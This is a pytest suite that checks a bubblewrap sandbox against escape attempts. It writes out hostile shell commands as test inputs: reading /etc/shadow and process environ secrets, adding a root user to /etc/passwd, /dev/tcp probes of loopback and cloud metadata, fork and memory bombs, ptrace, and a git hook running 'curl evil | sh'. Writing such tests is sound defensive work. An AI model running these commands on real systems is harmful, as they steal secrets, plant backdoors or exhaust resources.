"""Every attack a command may try from the bubblewrap sandbox, and proof the host is unchanged.

Each test makes one attack through the bus, as a session's call would, asserts that it
failed, and leaves the `host` fixture to check afterwards that the canary beside the
workspace is intact, that nothing appeared outside the workspace, and that no process of
the sandbox is left.
"""

from __future__ import annotations

import os
import secrets
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlparse

import anyio
import msgspec
import pytest

from bastion.proto import errors as codes
from bastion.proto.sandbox import Limits
from bastion.sandbox.service import sandbox_service
from bastion.sandbox.settings import SandboxSettings
from bastion.shared.bus import Client
from bastion.shared.errors import RemoteError
from bastion.shared.settings import BusSettings
from tests.helpers.bus import ServiceRunner
from tests.helpers.owners import owned
from tests.helpers.sandbox import (
    CANARY,
    SECRET,
    Host,
    exists,
    host_bytes,
    read,
    service_pid,
    shell,
    wait_for_file,
    write,
)
from tests.helpers.sleepers import sleeping, unique_duration

MiB = 1024 * 1024
SMALL = Limits(wall_s=20.0, address_space_bytes=256 * MiB, processes=64, memory_bytes=128 * MiB)


@pytest.fixture
def host_sleep() -> Iterator[int]:
    """A host process the sandbox should not be able to touch."""
    duration = unique_duration()
    process = subprocess.Popen(["sleep", duration])
    try:
        yield process.pid
        assert process.poll() is None, "the host's process did not survive the attack"
    finally:
        process.kill()
        process.wait()


# --- reading what is not the workspace -------------------------------------------------


async def test_reading_etc_shadow_fails(client: Client, sandbox: None, host: Host) -> None:
    result = await shell(client, host.workspace, "cat /etc/shadow")
    assert result.exit_status != 0
    assert "No such file or directory" in result.stderr


async def test_reading_a_home_directory_fails(client: Client, sandbox: None, host: Host) -> None:
    result = await shell(client, host.workspace, "ls -A /root; ls -A /home; cat ~root/.bashrc")
    assert result.stdout == ""
    assert "cannot access '/root'" in result.stderr
    assert "cannot access '/home'" in result.stderr


async def test_reading_the_state_dir_fails(client: Client, sandbox: None, host: Host) -> None:
    result = await shell(client, host.workspace, f"cat {host.state_dir}/sessions.key")
    assert result.exit_status != 0
    assert "state secret" not in result.stdout


async def test_reading_the_canary_beside_the_workspace_fails(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(client, host.workspace, f"cat {host.canary} ../outside.txt")
    assert result.exit_status != 0
    assert CANARY not in result.stdout


async def test_proc_1_environ_is_the_sandboxs_own_init_not_the_hosts(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(
        client, host.workspace, "tr '\\0' '\\n' < /proc/1/environ; tr '\\0' ' ' < /proc/1/cmdline"
    )
    assert SECRET not in result.stdout
    assert "NATS" not in result.stdout
    own_init = host_bytes("/proc/1/cmdline").split(b"\0")[0].decode()
    assert own_init not in result.stdout


async def test_the_services_own_environ_is_out_of_reach(
    client: Client, sandbox: None, host: Host
) -> None:
    pid = service_pid()
    result = await shell(
        client, host.workspace, f"cat /proc/{pid}/environ; grep -l {SECRET} /proc/*/environ"
    )
    assert SECRET not in result.stdout
    assert result.exit_status != 0


async def test_the_environment_holds_no_bastion_or_nats_variable(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(client, host.workspace, "env")
    assert "BASTION" not in result.stdout
    assert "NATS" not in result.stdout
    assert SECRET not in result.stdout


# --- writing outside the workspace -----------------------------------------------------


async def test_writing_the_hosts_tmp_stays_in_the_sandboxs_own_tmp(
    client: Client, sandbox: None, host: Host
) -> None:
    target = Path(f"/tmp/bastion-attack-{secrets.token_hex(4)}")
    result = await shell(client, host.workspace, f"echo x > {target} && cat {target}")
    assert result.stdout == "x\n"  # it wrote its own private /tmp...
    assert not exists(str(target))  # ...and not the host's


async def test_writing_usr_fails(client: Client, sandbox: None, host: Host) -> None:
    result = await shell(client, host.workspace, "touch /usr/bin/planted; echo x >> /usr/bin/env")
    # Read-only, and root's on the host besides (the sandbox's user is not root there).
    assert result.stderr.count("Read-only file system") + result.stderr.count("denied") == 2
    assert not exists("/usr/bin/planted")


async def test_writing_etc_fails(client: Client, sandbox: None, host: Host) -> None:
    before = host_bytes("/etc/passwd")
    result = await shell(
        client, host.workspace, "echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd; touch /etc/planted"
    )
    assert result.stderr.count("Read-only file system") == 2
    assert host_bytes("/etc/passwd") == before
    assert not exists("/etc/planted")


async def test_writing_the_state_dir_fails(client: Client, sandbox: None, host: Host) -> None:
    result = await shell(
        client, host.workspace, f"echo x > {host.state_dir}/planted || echo refused"
    )
    assert result.stdout == "refused\n"
    assert not (host.state_dir / "planted").exists()


async def test_sys_is_absent_and_dev_is_not_writable(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(
        client,
        host.workspace,
        "ls /sys; echo 1 > /sys/kernel/mm/transparent_hugepage/enabled; touch /dev/planted; "
        "echo fine > /dev/null && echo null-works",
    )
    assert "cannot access '/sys'" in result.stderr
    assert "cannot touch '/dev/planted': Read-only file system" in result.stderr
    assert result.stdout == "null-works\n"


async def test_proc_sys_kernel_is_not_writable(client: Client, sandbox: None, host: Host) -> None:
    before = host_bytes("/proc/sys/kernel/printk_ratelimit")
    result = await shell(
        client,
        host.workspace,
        "echo 5 > /proc/sys/kernel/printk_ratelimit; echo '|/workspace/x' > "
        "/proc/sys/kernel/core_pattern",
    )
    assert result.stderr.count("Read-only file system") == 2
    assert host_bytes("/proc/sys/kernel/printk_ratelimit") == before


# --- links and paths out of the workspace ----------------------------------------------


async def test_a_symlink_out_of_the_workspace_leads_the_shell_nowhere(
    client: Client, sandbox: None, host: Host
) -> None:
    (host.workspace / "leak").symlink_to(host.canary)
    result = await shell(client, host.workspace, "cat leak; echo overwritten > leak")
    assert CANARY not in result.stdout
    assert result.exit_status != 0


async def test_a_symlink_the_shell_plants_to_root_does_not_reach_the_host(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(
        client,
        host.workspace,
        f"ln -s / root && echo x > root{host.root}/planted; echo x > root/usr/planted",
    )
    assert result.exit_status != 0
    assert not (host.root / "planted").exists()
    assert not exists("/usr/planted")
    (host.workspace / "root").unlink()


async def test_a_hardlink_from_the_shell_to_a_file_outside_fails(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(client, host.workspace, "ln /usr/bin/env hl; ln /etc/hostname h2")
    assert result.stderr.count("Invalid cross-device link") == 2
    assert sorted(os.listdir(host.workspace)) == [".git"]  # the empty, read-only placeholder


@pytest.mark.parametrize("tool", ["read_file", "write_file"])
async def test_the_file_tools_refuse_a_symlink_out(
    client: Client, sandbox: None, host: Host, tool: str
) -> None:
    (host.workspace / "leak").symlink_to(host.canary)
    (host.workspace / "up").symlink_to("..")
    for path in ("leak", "up/outside.txt"):
        with pytest.raises(RemoteError) as raised:
            if tool == "read_file":
                await read(client, host.workspace, path)
            else:
                await write(client, host.workspace, path, "overwritten\n")
        assert raised.value.code == codes.INVALID_INPUT
        assert "outside the workspace" in raised.value.message


async def test_the_file_tools_refuse_to_write_through_a_hardlink(
    client: Client, sandbox: None, host: Host
) -> None:
    os.link(host.canary, host.workspace / "linked")
    with pytest.raises(RemoteError) as raised:
        await write(client, host.workspace, "linked", "overwritten\n")
    assert raised.value.code == codes.INVALID_INPUT
    assert "hard links" in raised.value.message


@pytest.mark.parametrize("path", ["../outside.txt", "a/../../outside.txt", "/etc/passwd"])
async def test_the_file_tools_refuse_dot_dot_and_absolute_paths_out(
    client: Client, sandbox: None, host: Host, path: str
) -> None:
    (host.workspace / "a").mkdir()
    for attempt in (read(client, host.workspace, path), write(client, host.workspace, path, "x")):
        with pytest.raises(RemoteError) as raised:
            await attempt
        assert raised.value.code == codes.INVALID_INPUT
        assert "outside the workspace" in raised.value.message


async def test_another_workspace_beside_this_one_is_hidden(
    client: Client, sandbox: None, host: Host
) -> None:
    other = host.root / "other-session"
    other.mkdir()
    (other / "notes.txt").write_text("another session's\n")
    host.before = host.listing()
    result = await shell(client, host.workspace, f"ls {host.root}; cat {other}/notes.txt")
    assert "another session's" not in result.stdout
    assert result.exit_status != 0


# --- the network -----------------------------------------------------------------------


async def test_nats_on_loopback_is_unreachable(
    client: Client, sandbox: None, host: Host, bus_settings: BusSettings
) -> None:
    port = urlparse(bus_settings.nats_url).port
    result = await shell(
        client, host.workspace, f"bash -c 'echo PING > /dev/tcp/127.0.0.1/{port}' && echo reached"
    )
    assert "reached" not in result.stdout
    assert "Connection refused" in result.stderr


async def test_a_host_service_on_loopback_is_unreachable(
    client: Client, sandbox: None, host: Host
) -> None:
    accepted: list[object] = []
    async with await anyio.create_tcp_listener(local_host="127.0.0.1") as listener:
        port = listener.extra(anyio.abc.SocketAttribute.local_port)
        async with anyio.create_task_group() as group:
            group.start_soon(listener.serve, accepted.append)
            result = await shell(
                client,
                host.workspace,
                f"bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo reached",
            )
            group.cancel_scope.cancel()
    assert "reached" not in result.stdout
    assert "Connection refused" in result.stderr
    assert accepted == []


async def test_the_cloud_metadata_address_is_unreachable(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(
        client,
        host.workspace,
        "bash -c 'echo x > /dev/tcp/169.254.169.254/80' && echo reached; ip route 2>&1",
    )
    assert "reached" not in result.stdout
    assert "Network is unreachable" in result.stderr


async def test_the_declared_network_without_hosts_reaches_neither_nats_nor_a_bridge(
    client: Client, sandbox: None, host: Host, bus_settings: BusSettings
) -> None:
    port = urlparse(bus_settings.nats_url).port
    result = await shell(
        client,
        host.workspace,
        f"bash -c 'echo PING > /dev/tcp/127.0.0.1/{port}' && echo reached; "
        "bash -c 'echo x > /dev/tcp/127.0.0.1/3128' && echo bridged; env | grep -i proxy",
        network="declared",
    )
    assert "reached" not in result.stdout and "bridged" not in result.stdout
    assert "proxy" not in result.stdout.lower()
    assert f"/dev/tcp/127.0.0.1/{port}: Connection refused" in result.stderr
    assert "/dev/tcp/127.0.0.1/3128: Connection refused" in result.stderr


async def test_the_declared_network_has_no_route_to_the_cloud_metadata_address(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(
        client,
        host.workspace,
        "bash -c 'echo x > /dev/tcp/169.254.169.254/80' && echo reached",
        network="declared",
    )
    assert "reached" not in result.stdout
    assert "Network is unreachable" in result.stderr


async def test_no_name_resolves(client: Client, sandbox: None, host: Host) -> None:
    result = await shell(client, host.workspace, "getent hosts example.com || echo unresolved")
    assert result.stdout == "unresolved\n"


# --- privilege -------------------------------------------------------------------------


async def test_mount_fails(client: Client, sandbox: None, host: Host) -> None:
    result = await shell(
        client,
        host.workspace,
        "mount -t tmpfs none /workspace && echo mounted; mount --bind / /mnt",
    )
    assert "mounted" not in result.stdout
    assert result.exit_status != 0


async def test_a_nested_user_namespace_cannot_be_made(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(
        client,
        host.workspace,
        "unshare -U true && echo nested; unshare -r id -u && echo root; "
        "python3 -c 'import os; os.unshare(os.CLONE_NEWUSER)' 2>/dev/null || echo refused",
    )
    assert "nested" not in result.stdout
    assert "root" not in result.stdout
    assert result.stdout.endswith("refused\n")
    assert result.stderr.count("unshare failed") == 2


async def test_a_setuid_copy_gains_nothing_and_su_and_sudo_fail(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(
        client,
        host.workspace,
        "cp /usr/bin/id ./id && chmod u+s ./id && ./id -u; "
        "su -c id 2>/dev/null || echo no-su; sudo -n id 2>/dev/null || echo no-sudo",
    )
    assert result.stdout == "10001\nno-su\nno-sudo\n"
    (host.workspace / "id").unlink()


async def test_there_are_no_capabilities_and_no_new_privileges(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(client, host.workspace, "grep -E '^(Cap|NoNewPrivs)' /proc/self/status")
    fields = dict(line.split(":\t") for line in result.stdout.splitlines())
    for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(fields[name], 16) == 0, name
    assert fields["NoNewPrivs"] == "1"


async def test_chroot_fails(client: Client, sandbox: None, host: Host) -> None:
    result = await shell(client, host.workspace, "mkdir j && chroot j /bin/true || echo refused")
    assert result.stdout == "refused\n"
    assert "Operation not permitted" in result.stderr
    (host.workspace / "j").rmdir()


async def test_creating_a_device_node_fails(client: Client, sandbox: None, host: Host) -> None:
    result = await shell(client, host.workspace, "mknod disk b 8 0; mknod mem c 1 1; ls")
    assert result.stdout == ""
    assert result.stderr.count("Operation not permitted") == 2


async def test_the_hostname_is_not_the_hosts(client: Client, sandbox: None, host: Host) -> None:
    result = await shell(client, host.workspace, "hostname; hostname evil || echo refused")
    assert result.stdout == "sandbox\nrefused\n"
    assert socket.gethostname() != "evil"


# --- processes -------------------------------------------------------------------------


async def test_only_the_sandboxs_own_processes_are_visible(
    client: Client, sandbox: None, host: Host, host_sleep: int
) -> None:
    result = await shell(client, host.workspace, "ls /proc | grep -E '^[0-9]+$'")
    pids = [int(pid) for pid in result.stdout.split()]
    assert len(pids) < 10
    assert host_sleep not in pids or host_sleep < 10


async def test_killing_a_host_process_fails(
    client: Client, sandbox: None, host: Host, host_sleep: int
) -> None:
    result = await shell(client, host.workspace, f"kill -9 {host_sleep} || echo refused")
    assert result.stdout == "refused\n"


async def test_signals_to_every_process_reach_only_the_sandbox(
    client: Client, sandbox: None, host: Host, host_sleep: int
) -> None:
    result = await shell(client, host.workspace, "kill -KILL -1; echo survived")
    assert result.ended in ("exited", "signal")
    # The host's sleep is checked alive by its fixture once the attack is over.


async def test_ptrace_of_a_host_process_fails(
    client: Client, sandbox: None, host: Host, host_sleep: int
) -> None:
    result = await shell(
        client,
        host.workspace,
        "python3 -c 'import ctypes, sys; libc = ctypes.CDLL(None); "
        f"sys.exit(0 if libc.ptrace(16, {host_sleep}, 0, 0) == 0 else 1)' || echo refused",
    )
    assert result.stdout == "refused\n"


async def test_a_fork_bomb_ends_and_says_it_hit_the_process_limit(
    client: Client, sandbox: None, host: Host
) -> None:
    # Every child stays alive, so the bomb does reach the cap rather than racing its end.
    bomb = "python3 -c 'import os\nwhile True:\n    if os.fork() == 0: os.pause()'"
    result = await shell(client, host.workspace, bomb, limits=SMALL)
    assert result.limit_hit == "process_limit"
    assert result.ended == "exited"
    assert "BlockingIOError" in result.stderr  # the fork the cap refused


async def test_a_memory_bomb_is_killed_and_says_it_ran_out_of_memory(
    client: Client, sandbox: None, host: Host
) -> None:
    bomb = "python3 -c 'a = []\nwhile True: a.append(bytearray(10**7))'"
    limits = msgspec.structs.replace(SMALL, address_space_bytes=4 * 1024 * MiB)
    result = await shell(client, host.workspace, bomb, limits=limits)
    assert (result.ended, result.signal, result.limit_hit) == ("signal", 9, "oom")


async def test_an_address_space_bomb_fails_within_the_limit(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(
        client, host.workspace, "python3 -c 'b = bytearray(512 * 1024 * 1024)'", limits=SMALL
    )
    assert result.exit_status == 1
    assert "MemoryError" in result.stderr


async def test_ten_mebibytes_of_output_are_cut_to_the_cap(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(
        client,
        host.workspace,
        "head -c 10485760 /dev/zero | tr '\\0' a",
        limits=Limits(output_bytes=64 * 1024),
    )
    assert result.stdout_cut == 10 * MiB - 64 * 1024
    assert len(result.stdout.encode()) < 64 * 1024 + 100


async def test_a_file_past_the_per_file_limit_is_capped(
    client: Client, sandbox: None, host: Host
) -> None:
    result = await shell(
        client,
        host.workspace,
        "head -c 2M /dev/zero > big; echo status=$?",
        limits=Limits(file_size_bytes=MiB),
    )
    assert result.stdout == "status=153\n"  # 128 + SIGXFSZ
    assert "File size limit exceeded" in result.stderr
    assert (host.workspace / "big").stat().st_size == MiB
    (host.workspace / "big").unlink()


async def test_the_wall_clock_kills_a_sleep_and_its_children(
    client: Client, sandbox: None, host: Host
) -> None:
    duration = unique_duration()
    result = await shell(
        client,
        host.workspace,
        f"(sleep {duration} &) ; sleep {duration} & sleep {duration}",
        limits=Limits(wall_s=0.5),
    )
    assert result.ended == "timeout"
    assert sleeping(duration) == []


async def test_one_sessions_tmp_is_invisible_to_another_running_at_once(
    client: Client, sandbox: None, host: Host
) -> None:
    other = owned(host.root / "workspace-b")
    # `.git`: the empty placeholder that keeps a workspace from becoming a repository
    host.before = host.listing() | {"workspace-b/seen", "workspace-b/.git"}
    first = (
        "echo mine > /tmp/a-secret && touch ready && "
        "i=0; while [ ! -e go ] && [ $i -lt 2000 ]; do i=$((i+1)); sleep 0.01; done; "
        "cat /tmp/a-secret"
    )
    results = {}

    async def session_a() -> None:
        results["a"] = await shell(client, host.workspace, first, session="aaaaaaaaaaaaaaaa")

    async with anyio.create_task_group() as group:
        group.start_soon(session_a)
        await anyio.to_thread.run_sync(wait_for_file, host.workspace / "ready", 20.0)
        results["b"] = await shell(
            client, other, "ls -A /tmp > seen; cat /tmp/a-secret", session="bbbbbbbbbbbbbbbb"
        )
        (host.workspace / "go").touch()
    assert results["a"].stdout == "mine\n"  # the first was running all along
    assert (other / "seen").read_text() == ""
    assert "No such file" in results["b"].stderr
    for name in ("ready", "go"):
        (host.workspace / name).unlink()


# --- the workspace's own protected files -----------------------------------------------


def _git_repo(workspace: Path) -> None:
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    owned(workspace)


async def test_git_hooks_and_config_are_read_only_by_default(
    client: Client, sandbox: None, host: Host
) -> None:
    _git_repo(host.workspace)
    config = (host.workspace / ".git/config").read_text()
    result = await shell(
        client,
        host.workspace,
        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] x = 1' >> .git/config; "
        "echo ok > .git/description && git status --short && echo fine",
    )
    assert result.stderr.count("Read-only file system") == 2
    assert result.stdout.endswith("fine\n")
    assert not (host.workspace / ".git/hooks/pre-commit").exists()
    assert (host.workspace / ".git/config").read_text() == config


async def test_the_operator_can_let_commands_write_git_hooks(
    client: Client, run_service: ServiceRunner, settings: SandboxSettings, host: Host
) -> None:
    _git_repo(host.workspace)
    lifted = msgspec.structs.replace(settings, git_writable=True)
    async with run_service(sandbox_service, lifted):
        result = await shell(client, host.workspace, "echo true > .git/hooks/pre-commit")
    assert result.exit_status == 0
    assert (host.workspace / ".git/hooks/pre-commit").read_text() == "true\n"


async def test_an_extra_read_only_dir_is_shown_but_not_writable(
    client: Client, sandbox: None, host: Host
) -> None:
    shared = host.root / "reference"
    shared.mkdir()
    (shared / "doc.txt").write_text("reference\n")
    owned(shared)  # writable to the sandbox's user but for the read-only mount
    host.before = host.listing()
    result = await shell(
        client,
        host.workspace,
        f"cat {shared}/doc.txt; echo x > {shared}/doc.txt; touch {shared}/new",
        read_only_dirs=(str(shared),),
    )
    assert result.stdout == "reference\n"
    assert result.stderr.count("Read-only file system") == 2
    assert (shared / "doc.txt").read_text() == "reference\n"
